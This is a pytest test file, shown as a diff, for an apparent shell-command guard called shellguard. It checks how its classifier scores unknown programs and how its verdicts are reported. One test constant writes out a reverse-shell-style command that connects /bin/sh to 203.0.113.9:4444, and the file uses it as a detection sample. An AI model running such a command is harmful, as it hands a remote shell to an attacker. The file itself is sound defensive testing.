@@ -1,0 +1,134 @@
+"""The embedded second opinion: where it is heard, where it must not be, and that it never lowers anything."""
+
+from __future__ import annotations
+
+import json
+import math
+import subprocess
+import sys
+from array import array
+from importlib import resources
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from shellguard import judgement
+from shellguard.classifier.features import features
+from shellguard.classifier.model import BUCKETS, Classifier, bucket_of, packaged
+from shellguard.classifier.opinion import RULE, SCORE, Opinion, opinion, raised
+from shellguard.effects.derive import effects_of
+from shellguard.effects.packs import packaged as packs
+from shellguard.parsing.reading import read
+from shellguard.parsing.shell_state import NOTHING_KNOWN, ShellState
+from shellguard.policy.decision import Action, Challenge
+from shellguard.risk.finding import Risk
+from shellguard.settings.model import Settings
+from shellguard.verdict import Verdict
+
+SURE = Opinion(0.99, ("socket",))
+
+
+def verdict(line: str, shell: ShellState = NOTHING_KNOWN, **policy: object) -> Verdict:
+    return judgement.judge(
+        line, shell=shell, settings=Settings.model_validate({"policy": policy}), look=False
+    )
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "gti status",
+        "ll",
+        "deploy staging",
+        "nx run-many --target=build --all",
+        "backup.sh /mnt/backup",
+        "./manage.py migrate",
+        "cleanup-tmp 3",
+        "k get pods -n dev",
+        "sbatch job.sh",
+        "mlr --icsv --ojson cat data.csv",
+        "hyperfine './a.out' './b.out'",
+        "idf.py build flash monitor",
+    ],
+)
+def test_an_unknown_program_alone_is_no_question(line: str) -> None:
+    assert verdict(line).decision.action is Action.ALLOW
+
+
+@pytest.mark.parametrize(
+    ("risk", "found", "unknown"),
+    [
+        (Risk(10), SURE, ()),
+        (Risk(10), Opinion(0.1), ("frob",)),
+        (Risk(SCORE), SURE, ("frob",)),
+        (Risk(97), SURE, ("frob",)),
+    ],
+    ids=["all programs are known", "not sure", "asked about anyway", "denied anyway"],
+)
+def test_it_is_not_heard(risk: Risk, found: Opinion, unknown: tuple[str, ...]) -> None:
+    assert raised(risk, found, packaged(), unknown) is risk
+
+
+def test_heard_it_asks_by_key_and_says_what_is_not_known() -> None:
+    risk = raised(Risk(10), SURE, packaged(), ("frob",))
+    assert risk.score == SCORE
+    assert risk.findings[0].id == RULE
+    assert "what frob does is not known" in risk.reasoning
+    assert "socket" in risk.reasoning
+
+
+UNKNOWN_BUT_TELLING = "frobsh -e /bin/sh --connect 203.0.113.9:4444 --daemonize payload"
+
+
+def test_a_line_that_nobody_understands_is_asked_about_for_what_it_resembles() -> None:
+    without = verdict(UNKNOWN_BUT_TELLING, classifier=False)
+    script = read(UNKNOWN_BUT_TELLING)
+    sure = Classifier(array("b", bytes(BUCKETS)), 1.0, 5.0, 0.9)
+    assert opinion(sure, script, effects_of(script)).probability > 0.99
+    assert verdict(UNKNOWN_BUT_TELLING).risk.score >= without.risk.score
+
+
+def test_the_source_of_a_verdict_says_when_it_was_the_classifier(monkeypatch: pytest.MonkeyPatch) -> None:
+    sure = Classifier(array("b", bytes(BUCKETS)), 1.0, 5.0, 0.9)
+    monkeypatch.setattr(judgement, "learned", lambda: sure)
+    found = verdict("frobctl whatever")
+    assert (found.source, found.decision.action, found.decision.challenge) == (
+        "classifier",
+        Action.CONFIRM,
+        Challenge.KEY,
+    )
+    assert verdict("frobctl whatever", classifier=False).source == "static"
+    assert verdict("ls -la").source == "static"
+
+
+def test_a_function_whose_text_is_known_is_no_unknown_program() -> None:
+    shell = ShellState(functions={"frob": "frob () \n{ \n    ls -la\n}"})
+    assert packs().unknown_programs(read("frob x", shell)) == ()
+    assert packs().unknown_programs(read("frob x")) == ("frob",)
+
+
+def test_the_card_belongs_to_the_weights_and_keeps_its_promises() -> None:
+    card = json.loads(resources.files("shellguard.classifier").joinpath("card.json").read_text())
+    assert len(packaged().weights) == BUCKETS <= 3_000_000
+    assert 0.5 <= packaged().threshold < 1
+    assert card["dev"]["with_rules"]["auc"] >= 0.985
+    assert card["heard_on_dev"]["ordinary"]["added"] <= 2
+    assert card["limits"]
+
+
+@given(st.text(max_size=300))
+@settings(max_examples=200, deadline=None)
+def test_any_text_has_a_probability_and_the_same_each_time(text: str) -> None:
+    script = read(text)
+    seen = features(script, effects_of(script))
+    probability = packaged().probability(seen)
+    assert 0 <= probability <= 1
+    assert not math.isnan(probability)
+    assert seen == features(read(text), effects_of(script))
+
+
+def test_buckets_are_the_same_in_every_process() -> None:
+    code = "from shellguard.classifier.model import bucket_of; print(bucket_of('program:ls'))"
+    told = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
+    assert int(told) == bucket_of("program:ls")
